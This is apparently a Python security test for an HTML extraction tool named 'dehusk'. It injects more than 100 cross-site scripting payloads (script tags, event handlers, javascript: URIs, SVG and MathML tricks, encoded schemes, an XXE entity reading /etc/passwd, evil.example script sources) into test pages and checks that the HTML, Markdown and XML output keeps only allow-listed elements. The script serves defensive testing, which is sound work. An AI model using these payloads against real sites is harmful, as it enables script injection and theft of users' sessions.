#!/usr/bin/python3
"""No script gets through: shapes of attacks, each at every place of a page that reaches the output, are rendered as HTML, Markdown and XML,
and what a browser's parser finds in the result must be the elements and attributes that docs/formats.md lists, and nothing else.

usage: xss.py BUILD_DIR     Python is Debian's, which has html5lib and lxml."""
import html
import os
import subprocess
import sys
import tempfile

import html5lib
import lxml.etree

# Elements of the output, and their attributes.
ALLOWED = {name: set() for name in "head title body h1 h2 h3 h4 h5 h6 p ul li blockquote pre table caption tr th td thead tbody figure figcaption em "
           "strong s del sub sup br hr dl dt dd".split()}
ALLOWED.update(html={"lang"}, meta={"charset", "name", "content"}, link={"rel", "href"}, a={"href"}, img={"src", "alt"}, ol={"start"}, code={"class"})
SCHEMES = ("http://", "https://", "mailto:")
TEI_ATTRIBUTES = {"notation", "type", "rend", "n", "role", "target", "url", "lang", "unit", "version", "ident", "{http://www.w3.org/XML/1998/namespace}lang"}

ELEMENTS = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)>
<script>alert(1)//
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script\x20type="text/javascript">alert(1);</script>
<script\x00>alert(1)</script>
<script src="data:text/javascript,alert(1)"></script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</code></pre><script>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src='x'onerror='alert(1)'>
<img src=`x`onerror=alert(1)>
<img \x0bonerror=alert(1) src=x>
<img src=x:x onerror&#61;alert(1)>
<img srcset="x" onerror=alert(1)>
<img """><script>alert(1)</script>">
<img src=javascript:alert(1)>
<img src=JaVaScRiPt:alert(1)>
<img src="jav&#x09;ascript:alert(1);">
<img src="jav&#x0A;ascript:alert(1);">
<img src=" &#14;  javascript:alert(1);">
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img src=&#0000106&#0000097&#0000118&#0000097script:alert(1)>
<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<img style="xss:expression(alert(1))">
<image src=x onerror=alert(1)>
<a href="javascript:alert(1)">text</a>
<a href=" javascript:alert(1)">text</a>
<a href="java&#10;script:alert(1)">text</a>
<a href="javascript&colon;alert(1)">text</a>
<a href="&#1;javascript:alert(1)">text</a>
<a href="vbscript:msgbox(1)">text</a>
<a href="data:text/html,<script>alert(1)</script>">text</a>
<a href="feed:javascript:alert(1)">text</a>
<a href="view-source:javascript:alert(1)">text</a>
<a href="blob:https://example.org/1">text</a>
<a href="file:///etc/passwd">text</a>
<a href="http://x' onclick='alert(1)">text</a>
<a href="http://x&quot; onclick=&quot;alert(1)">text</a>
<a href="http://x&quot;><script>alert(1)</script>">text</a>
<a href=http://x onmouseover=alert(1)>text</a>
<a href="//evil.example" target=_blank rel=opener ping=//evil.example>text</a>
<a href="http://x)](javascript:alert(1))">text</a>
<a href="https://x/a b)[y](javascript:alert(1)">text</a>
<a xlink:href="javascript:alert(1)">text</a>
<a href=x id=location name=cookie>text</a>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>text</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><desc><script>alert(1)</script></desc></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><semantics><mi>x</mi><annotation encoding="application/x-tex"><img src=x onerror=alert(1)></annotation></semantics></math>
<math><semantics><mi>x</mi><annotation encoding="application/x-tex">\text{&lt;script&gt;alert(1)&lt;/script&gt;}$</annotation></semantics></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe><script>alert(1)</script></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object type="text/x-scriptlet" data="//evil.example/x"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">
<applet code="javascript:confirm(1)">
<video src=x onerror=alert(1)></video>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)></audio>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>
<details open ontoggle=alert(1)><summary>text</summary>more</details>
<input autofocus onfocus=alert(1)>
<input type=image src="javascript:alert(1)">
<button formaction="javascript:alert(1)">text</button>
<form action="javascript:alert(1)"><input type=submit></form>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<marquee onstart=alert(1)>text</marquee>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<base href="javascript:alert(1)//">
<style>@import'javascript:alert(1)';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<div style="background-image: url(javascript:alert(1))">text</div>
<div style="width: expression(alert(1))">text</div>
<p onclick=alert(1)>text</p>
<p/onmouseover=alert(1)>text</p>
<p class="x" onpointerrawupdate=alert(1)>text</p>
<b onmouseover=alert(1)>text</b>
<em style=x:expression(alert(1))>text</em>
<code class="language-x&quot; onclick=&quot;alert(1)">text</code>
<pre class='language-"onclick="alert(1)'>text</pre>
<pre><code class="language-</code></pre><script>alert(1)</script>">text</code></pre>
<ol start='1" onclick="alert(1)'><li>text</li></ol>
<ol start="javascript:alert(1)"><li value='2" onclick="alert(1)'>text</li></ol>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">text</td><td>b</td></tr></table>
<table><tr><td colspan='2" onclick="alert(1)'>text</td><td>b</td></tr></table>
<blockquote cite="javascript:alert(1)">text</blockquote>
<figure onclick=alert(1)><img src="https://x/i.png" alt='"><script>alert(1)</script>'><figcaption onclick=alert(1)>text</figcaption></figure>
<template><script>alert(1)</script></template>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<listing>&lt;img onerror=alert(1) src=x&gt;</listing>
<title><script>alert(1)</script></title>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><script>alert(1)</script>-->
<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
<![CDATA[<script>alert(1)</script>]]>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
\x3cscript\x3ealert(1)\x3c/script\x3e
¼script¾alert(1)¼/script¾
＜script＞alert(1)＜/script＞
[text](javascript:alert(1))
![text](javascript:alert(1))
[text]: javascript:alert(1)
<javascript:alert(1)>
`<script>alert(1)</script>
'''.strip("\n").split("\n")
SHAPES = [line.replace(r"\x0b", "\x0b").replace(r"\x00", "\x00").replace(r"\x20", " ") for line in ELEMENTS]
FILLER = "This sentence stands here so that the page has enough of a text that its author wrote, and it goes on for some more words."


def page(shape):
    """A shape at every place of a page that reaches the output."""
    quoted = html.escape(shape)
    return f"""<!DOCTYPE html><html lang="{quoted}"><head><title>{quoted}</title><meta name="author" content="{quoted}">
<meta name="description" content="{quoted}"><meta property="og:site_name" content="{quoted}"><link rel="canonical" href="{quoted}">
<meta property="article:published_time" content="2020-01-02{quoted}"></head><body><article><h1>Head {quoted}</h1><p>{FILLER} {quoted}</p>
<p><a href="{quoted}">{FILLER} link</a> <img src="{quoted}" alt="{quoted}"> <img src="https://example.org/i.png" alt="{quoted}"> {FILLER}</p>
<pre><code class="language-{quoted}">{quoted}</code></pre><ul><li>{quoted} {FILLER}</li></ul>
<table><tr><th>{quoted}</th><td>b</td></tr></table><p>{FILLER}</p>{shape}<p>{FILLER}</p></article></body></html>"""


def faults_of_html(data):
    """What a browser would find that is not on the list."""
    tree = html5lib.parse(data, namespaceHTMLElements=False)
    for node in tree.iter():
        if not isinstance(node.tag, str):
            yield f"a comment: {node.text}"
            continue
        if node.tag not in ALLOWED:
            yield f"<{node.tag}>"
            continue
        for name, value in node.attrib.items():
            if name not in ALLOWED[node.tag] and not (node.tag in ("td", "th") and name == "align"):
                yield f"<{node.tag} {name}={value!r}>"
            if name in ("href", "src") and not value.startswith(SCHEMES):
                yield f"<{node.tag} {name}={value!r}>"


def faults_of_xml(data):
    for node in lxml.etree.fromstring(data, parser=lxml.etree.XMLParser(resolve_entities=False, no_network=True)).iter():
        if not isinstance(node.tag, str):
            yield f"a comment or instruction: {node.text}"
            continue
        for name, value in node.attrib.items():
            if name not in TEI_ATTRIBUTES:
                yield f"{name}={value!r}"
            if name in ("target", "url") and not value.startswith(SCHEMES):
                yield f"{name}={value!r}"


def render(program, path, to, *options):
    run = subprocess.run([program, "--to", to, "--links", "--images", *options, path], capture_output=True)
    if run.returncode:
        sys.exit(f"xss: {path}: {run.stderr.decode()}")
    return run.stdout


def check(program, path, options):
    """Faults of what comes out of one page in all formats."""
    for fault in faults_of_html(render(program, path, "html", *options)):
        yield "html", fault
    markdown = render(program, path, "markdown", *options)
    shown = subprocess.run(["cmark-gfm", "--unsafe", "-e", "table", "-e", "strikethrough"], input=markdown, capture_output=True, check=True).stdout
    for fault in faults_of_html(shown):
        yield "markdown", fault
    for fault in faults_of_xml(render(program, path, "xml", *options)):
        yield "xml", fault


def main():
    program = os.path.join(os.path.abspath(sys.argv[1]), "dehusk")
    failed = checked = 0
    if len(SHAPES) < 100:
        sys.exit("xss: fewer than 100 shapes")
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "page")
        for shape in SHAPES:
            ways = {"page": (page(shape), ["--from", "html"]), "text": (f"{FILLER}\n{shape}\n{FILLER}\n", ["--from", "text"]),
                    "address": (page("x"), ["--from", "html", "--url", shape.replace("\x00", "")])}
            for way, (data, options) in ways.items():
                with open(path, "w", encoding="utf-8") as f:
                    f.write(data)
                checked += 1
                for to, fault in check(program, path, options):
                    failed += 1
                    print(f"{shape!r} in {way}, {to}: {fault}")
    print(f"{len(SHAPES)} shapes, {checked} pages, {failed} faults")
    sys.exit(failed > 0)


main()
